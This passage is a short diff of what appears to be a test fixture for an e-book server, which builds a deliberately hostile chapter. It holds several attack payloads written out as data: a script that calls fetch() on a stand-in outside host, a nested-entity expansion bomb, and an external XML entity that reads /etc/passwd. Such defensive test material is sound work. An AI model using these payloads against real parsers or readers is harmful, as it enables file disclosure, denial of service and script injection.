@@ -3,7 +3,7 @@ import { writeZip } from '#server/epub/zip-writer.ts'
 const outside = 'http://outside.test'
 const shout = "top.shouted=1;fetch('http://outside.test/script')"
 
-/** A chapter with every attack that a book can contain. */
+/** A chapter of an e-book with every attack on the reader that a book can contain. */
 const chapter = `<?xml version="1.0" encoding="utf-8"?>
 <!DOCTYPE html [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY file SYSTEM "file:///etc/passwd">]>
 <html xmlns="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink">
